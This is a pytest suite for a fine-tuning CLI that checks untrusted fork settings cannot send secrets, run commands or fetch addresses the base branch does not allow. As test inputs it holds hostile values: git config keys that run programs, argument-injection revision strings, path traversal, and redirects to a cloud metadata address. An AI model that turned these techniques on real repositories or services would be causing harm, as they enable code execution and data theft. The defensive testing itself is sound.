    with PlainServer(world) as server:
        settings = (
            f'project: demo\nprovider:\n  type: compatible\n  base_url: "{server.url}"\n'
            f"  api_key_command: ['{sys.executable}', ci/token.py, '{ran}/base']\n"
        )
        (checkout / "ci").mkdir()
        (checkout / "ci" / "token.py").write_text(TOKEN_PROGRAM.replace("THIS", "base"), "utf-8")
        (checkout / "ftctl.yaml").write_text(settings, "utf-8")
        commit(checkout, "settings")
        git(checkout, "checkout", "--quiet", "-B", "fork")
        (checkout / "ci" / "token.py").write_text(TOKEN_PROGRAM.replace("THIS", "fork"), "utf-8")
        (checkout / "ftctl.yaml").write_text(settings.replace("/base", "/fork"), "utf-8")
        commit(checkout, "theirs")

        shell.ok("plan", "--base", "main")
        shell.ok("validate", "--base", "main")

    assert {one["authorization"] for one in world.headers} == {"Bearer token-of-base"}
    assert [path.name for path in ran.iterdir()] == ["base"]


@pytest.mark.parametrize("listed", [False, True])
def test_a_change_has_no_variable_sent_that_the_base_does_not_list(
    checkout: Path, shell: Shell, world: World, *, listed: bool
) -> None:
    git(checkout, "checkout", "--quiet", "main")
    with PlainServer(world) as server:
        lines = "  variables: [HF_TOKEN]\n" if listed else ""
        address = f"  type: compatible\n  base_url: {server.url}\n"
        settings = f"project: demo\nprovider:\n{address}{lines}"
        (checkout / "ftctl.yaml").write_text(settings, "utf-8")
        commit(checkout, "settings")
        git(checkout, "checkout", "--quiet", "-B", "fork")
        (checkout / "ftctl.yaml").write_text(
            f"project: demo\nprovider:\n{address}  variables: [HF_TOKEN]\n", "utf-8"
        )
        text = f"{FINETUNE}extra: {{hub: {{token: {{env: HF_TOKEN}}}}}}\n"
        (checkout / "finetunes" / "tone.yaml").write_text(text, "utf-8")
        shell.environ |= {"OPENAI_API_KEY": KEY, "HF_TOKEN": "hf_let_me_in_0123456789"}

        shell.ok("plan", "--base", "main")
        result = shell("apply", "--base", "main", "--auto-approve")

    sent = [body["hub"]["token"] for body in world.bodies]
    if listed:
        assert sent == ["hf_let_me_in_0123456789"]
        return
    assert (result.status, world.files, sent) == (1, [], [])
    assert (
        "error[missing-variable]: with --base, a manifest may not have the environment variable"
        " HF_TOKEN sent\n    hint: add 'variables: [HF_TOKEN]' below provider in ftctl.yaml at main"
    ) in result.err


@pytest.mark.parametrize(
    "lines",
    [
        'base_url: "SERVER"',
        "base_url_env: CI_GATEWAY",
        "api_key_env: PARTNER_TOKEN",
        "api_key_command: [touch, ran]",
        "headers: {x-a: {env: PARTNER_TOKEN}}",
        "query: {a: {env: PARTNER_TOKEN}}",
    ],
)
def test_a_change_that_brings_its_own_settings_sends_no_key_where_they_say(
    checkout: Path, shell: Shell, world: World, lines: str
) -> None:
    git(checkout, "checkout", "--quiet", "--orphan", "empty")
    git(checkout, "rm", "--quiet", "-r", "--cached", ".")
    git(checkout, "commit", "--quiet", "--allow-empty", "-m", "nothing")
    with PlainServer(world) as server:
        text = f"project: demo\nprovider:\n  type: openai\n  {lines}\n"
        text += "policy: {commands: [[touch, ran]]}\n"
        (checkout / "ftctl.yaml").write_text(text.replace("SERVER", server.url), "utf-8")
        shell.environ |= {
            "OPENAI_API_KEY": KEY, "PARTNER_TOKEN": "ghp_x", "CI_GATEWAY": server.url,
            "PATH": os.environ["PATH"],
        }  # fmt: skip

        result = shell("plan", "--base", "empty")
        offline = shell.ok("plan", "--base", "empty", "--offline")

    name = lines.partition(":")[0]
    assert (result.status, world.requests) == (1, [])
    assert f"ftctl.yaml:4:3: error[not-reviewed]: '{name}' is this change's own" in result.err
    assert "policy.commands are this change's own and not run: empty has no" in offline.err
    assert not (checkout / "ran").exists()


def test_what_is_trained_and_from_which_folder_is_the_changes_own(settled: Path) -> None:
    text = SETTINGS.replace("defaults: {seed: 1}", "defaults: {seed: 2}")
    text += "defaults: {seed: 3}\nmanifests: models\n"
    wrote("models/kind.yaml", FINETUNE.replace("tone", "kind"))(settled)
    (settled / "ftctl.yaml").write_text(text, "utf-8")

    base, project = based(settled)
    _, production = based(settled, "prod")

    seeds = [one.value["seed"] for one in (*project.finetunes, *production.finetunes)]
    assert (project.config.manifests, seeds) == ("models", [3, 2])
    assert project.own is not None
    assert note_of_differences(base, project.own) is None


def test_an_environment_that_only_the_change_has_cannot_be_chosen(settled: Path) -> None:
    text = SETTINGS.replace("  prod:", "  mine: {policy: {}}\n  prod:")
    (settled / "ftctl.yaml").write_text(text, "utf-8")

    project, problems = load_project(settled, "mine", None, read_base(settled, "main").document)

    assert project is None
    assert [str(problem) for problem in problems] == [
        (
            "main:ftctl.yaml:8:3: error[unknown-environment]: there is no environment 'mine'\n"
            "    hint: known here: prod"
        )
    ]


def test_a_project_that_is_new_has_its_own_settings(checkout: Path) -> None:
    git(checkout, "checkout", "--quiet", "--orphan", "empty")
    git(checkout, "rm", "--quiet", "-r", "--cached", ".")
    git(checkout, "commit", "--quiet", "--allow-empty", "-m", "nothing")

    base = read_base(checkout, "empty")

    assert (base.document, base.problems) == (None, ())
    assert base.note(None) == "empty has no ftctl.yaml here: what this change's own says counts"


def test_settings_of_the_base_that_cannot_be_read_stop_all(checkout: Path) -> None:
    (checkout / "ftctl.yaml").write_text("project: [\n", "utf-8")
    commit(checkout)

    base = read_base(checkout, "HEAD")

    assert base.document is None
    assert [(one.code, one.span.path) for one in base.problems] == [
        ("yaml-syntax", "HEAD:ftctl.yaml")
    ]


# git.


def test_a_folder_that_looks_like_a_repository_is_none(settled: Path) -> None:
    trace = settled.parent / "trace"
    inner = settled / "team"
    bare = settled.parent / "bare"
    (settled / "ftctl.yaml").write_text(SETTINGS.replace("10", "10000"), "utf-8")
    wrote("team/ftctl.yaml", SETTINGS)(settled)
    commit(settled, "theirs")
    git(settled, "branch", "--force", "main")
    # In the folder itself: HEAD, objects, refs and settings that start a program.
    git(settled.parent, "clone", "--quiet", "--bare", str(settled), str(bare))
    for part in ("HEAD", "objects", "refs", "packed-refs"):
        if (bare / part).exists():
            (bare / part).rename(inner / part)
    program = settled.parent / "program"
    program.write_text(f"#!/bin/sh\ntouch {trace}\n", "utf-8")
    program.chmod(0o755)
    (inner / "config").write_text(
        f"[core]\n\tbare = true\n\tfsmonitor = {program}\n\tsshCommand = {program}\n", "utf-8"
    )

    base = read_base(inner, "main")

    assert base.document is not None
    assert base.document.value["policy"]["max_cost_per_job"] == 10
    assert base.commit == git(settled, "rev-parse", "main")
    assert not trace.exists()


def test_programs_in_a_clones_settings_are_not_run(settled: Path) -> None:
    trace = settled.parent / "trace"
    program = settled.parent / "program"
    program.write_text(f"#!/bin/sh\ntouch {trace}\ncat\n", "utf-8")
    program.chmod(0o755)
    for key in (
        "core.fsmonitor",
        "core.sshCommand",
        "diff.external",
        "diff.x.textconv",
        "filter.x.smudge",
        "core.pager",
        "core.editor",
        "uploadpack.packObjectsHook",
    ):
        git(settled, "config", key, str(program))  # fmt: skip
    wrote(".gitattributes", "* diff=x filter=x\n")(settled)

    read_base(settled, "main")
    rows = rows_at(settled, "main", "data/train.jsonl", settled.parent / "before")

    assert rows is not None
    assert rows.read_text("utf-8") == chat_rows(12)
    assert not trace.exists()


def test_a_clone_without_all_files_asks_nobody_for_them(settled: Path, tmp_path: Path) -> None:
    git(settled, "config", "uploadpack.allowFilter", "true")
    part = tmp_path / "part"
    url = settled.as_uri()
    git(tmp_path, "clone", "--quiet", "--no-checkout", "--filter=blob:none", url, str(part))

    with pytest.raises(FtctlError) as caught:
        read_base(part, "origin/main")

    assert "git cannot say what ftctl.yaml was" in caught.value.message
    assert caught.value.hint == (
        "fetch all of the repository's files: git fetch --refetch --no-filter"
    )


@pytest.mark.parametrize(
    "revision",
    ["--output=trace", "-h", "main:ftctl.yaml", ":/settings", "main..fork", "main fork", "",
     "main\n", "a" * 300, "\0"],
)  # fmt: skip
def test_what_is_no_name_of_a_revision_is_not_handed_to_git(revision: str, settled: Path) -> None:
    with pytest.raises(FtctlError, match="is no git revision"):
        read_base(settled, revision)


def test_a_revision_that_is_not_there_is_told_with_the_command_that_fetches_it(
    settled: Path, tmp_path: Path
) -> None:
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "--quiet", "--depth=1", settled.as_uri(), str(shallow))

    told = []
    for folder, revision in (
        (settled, "release"),
        (shallow, "origin/release"),
        (shallow, "HEAD~9"),
    ):
        with pytest.raises(FtctlError) as caught:
            read_base(folder, revision)
        told.append((caught.value.message, caught.value.hint))

    missing = "git does not know the revision"
    few = "this clone is shallow and has few of its commits"
    name = "check its name: 'git branch --all' lists the branches"
    assert told == [
        (f"{missing} 'release' here", name),  # there is nothing to fetch from
        (
            f"{missing} 'origin/release' here; {few}",
            "fetch it first: git fetch origin release:refs/remotes/origin/release",
        ),
        (f"{missing} 'HEAD~9' here; {few}", name),
    ]


def test_a_folder_without_git_is_told(tmp_path: Path) -> None:
    with pytest.raises(FtctlError, match="is in no git repository"):
        read_base(tmp_path, "main")


def test_data_of_the_base_comes_from_git_and_not_from_the_folder(checkout: Path) -> None:
    wrote("team/data/train.jsonl", "new\n")(checkout)
    commit(checkout)
    wrote("team/data/train.jsonl", "newer\n")(checkout)
    team, before = checkout / "team", checkout.parent / "before"

    found = rows_at(team, "HEAD", "data/train.jsonl", before)

    assert found == before
    assert before.read_text("utf-8") == "new\n"
    assert rows_at(team, "main", "data/train.jsonl", before) is None
    assert rows_at(team, "HEAD", "data", before) is None
    assert rows_at(team, "HEAD", "../../outside/rows.jsonl", before) is None
    above = rows_at(team, "main", "../data/train.jsonl", checkout.parent / "above")
    assert above is not None
    assert above.read_text("utf-8") == chat_rows(12)


def test_a_link_in_the_base_is_not_followed(checkout: Path) -> None:
    linked("data/link", "../../outside/rows.jsonl")(checkout)
    commit(checkout)

    with pytest.raises(FtctlError) as caught:
        rows_at(checkout, "HEAD", "data/link", checkout.parent / "before")

    assert caught.value.message == "data/link at HEAD is a link"


def test_a_pointer_of_git_lfs_leads_to_the_clones_own_store(checkout: Path) -> None:
    rows = chat_rows(12).encode()
    name = hashlib.sha256(rows).hexdigest()
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{name}\nsize {len(rows)}\n"
    wrote("data/large.jsonl", pointer)(checkout)
    commit(checkout)
    scratch = checkout.parent / "before"
    with pytest.raises(FtctlError) as caught:
        rows_at(checkout, "HEAD", "data/large.jsonl", scratch)
    wrote(f".git/lfs/objects/{name[:2]}/{name[2:4]}/{name}", rows)(checkout)

    found = rows_at(checkout, "HEAD", "data/large.jsonl", scratch)

    assert caught.value.message == (
        "data/large.jsonl at HEAD: the file is a git-lfs pointer, not the data"
    )
    assert found is not None
    assert found.read_bytes() == rows


# Addresses, where a base says which.


@pytest.fixture
def server() -> Iterator[FileServer]:
    pytest.importorskip("fsspec")
    pytest.importorskip("aiohttp")
    with FileServer(Shelf({"rows/train.jsonl": chat_rows(12).encode(),
                           "keys": b"not for you"})) as server:  # fmt: skip
        yield server


def sourced(root: Path, server: FileServer, path: str) -> list[str]:
    """What is said of a source, where the base lists the server's /rows/ alone."""
    settings = f'project: acme\nsources: {{addresses: ["{server.url}/rows/"]}}\n'
    git(root, "checkout", "--quiet", "main")
    (root / "ftctl.yaml").write_text(settings, "utf-8")
    commit(root, "addresses")
    git(root, "checkout", "--quiet", "-B", "fork")
    pin = f"sha256: {hashlib.sha256(chat_rows(12).encode()).hexdigest()}"
    text = FINETUNE.replace(f"source: {SOURCE}", f'source: "{path}", {pin}')
    (root / "finetunes" / "tone.yaml").write_text(text, "utf-8")
    (root / "ftctl.yaml").write_text("project: acme\n", "utf-8")
    _, project = based(root)
    found = locate(link(project), root / ".ftctl" / "cache")
    return [problem.message.replace(server.url, "SERVER") for problem in found.problems]


def test_an_address_that_the_base_lists_is_fetched(checkout: Path, server: FileServer) -> None:
    assert sourced(checkout, server, f"{server.url}/rows/train.jsonl") == []
    assert server.shelf.requests


@pytest.mark.parametrize(
    "path", ["/keys", "/rows/../keys", "/rows/%2e%2e/keys", "/rows/%252e%252e/keys"]
)
def test_an_address_that_the_base_does_not_list_is_not_asked_for(
    path: str, checkout: Path, server: FileServer
) -> None:
    assert sourced(checkout, server, f"{server.url}{path}") == [
        f"'SERVER{path}' is not among the addresses that main:ftctl.yaml allows"
    ]
    assert server.shelf.requests == []


@pytest.mark.parametrize(
    "target", ["/keys", "http://localhost:PORT/keys", "http://169.254.169.254/latest", "//[::1]/a"]
)
def test_a_redirect_to_what_the_base_does_not_list_is_not_followed(
    target: str, checkout: Path, server: FileServer
) -> None:
    port = server.url.rpartition(":")[2]
    server.shelf.redirects["/rows/train.jsonl"] = target.replace("PORT", port)

    (message,) = sourced(checkout, server, f"{server.url}/rows/train.jsonl")

    assert message.startswith("'SERVER/rows/train.jsonl' redirects elsewhere: '")
    assert message.endswith("is not among the addresses that main:ftctl.yaml allows")
    assert {one.split()[1] for one in server.shelf.requests} == {"/rows/train.jsonl"}


def test_a_redirect_within_what_the_base_lists_is_followed(
    checkout: Path, server: FileServer
) -> None:
    server.shelf.redirects["/rows/latest"] = "/rows/train.jsonl"

    assert sourced(checkout, server, f"{server.url}/rows/latest") == []


@pytest.mark.parametrize(
    ("url", "listed"),
    [
        ("https://data.acme.example/rows/a.jsonl", True),
        ("s3://acme-data/train-1.jsonl", True),
        ("s3://acme-data-of-others/train.jsonl", False),
        ("https://data.acme.example.evil.example/rows/a.jsonl", False),
        ("https://data.acme.example@evil.example/rows/a.jsonl", False),
        ("https://data.acme.example:444/rows/a.jsonl", False),
        ("http://data.acme.example/rows/a.jsonl", False),
        ("https://data.acme.example/rows/../keys", False),
        ("https://data.acme.example/rows/..%2Fkeys", False),
        ("https://data.acme.example/rows/..\\keys", False),
        ("https://data.acme.example/elsewhere", False),
        ("zip://a::https://data.acme.example/rows/a.zip", False),
    ],
)
def test_an_address_is_listed_by_its_beginning(url: str, listed: bool) -> None:
    beginnings = ("https://data.acme.example/rows/", "s3://acme-data", "/", "")

    assert is_listed(url, beginnings) == listed


def test_forty_things_and_more_were_tried() -> None:
    assert len(ATTACKS) + len(SETTINGS_ATTACKS) >= 40
    assert {name.partition(":")[0] for name in ATTACKS} == {"source", "manifest", "text"}
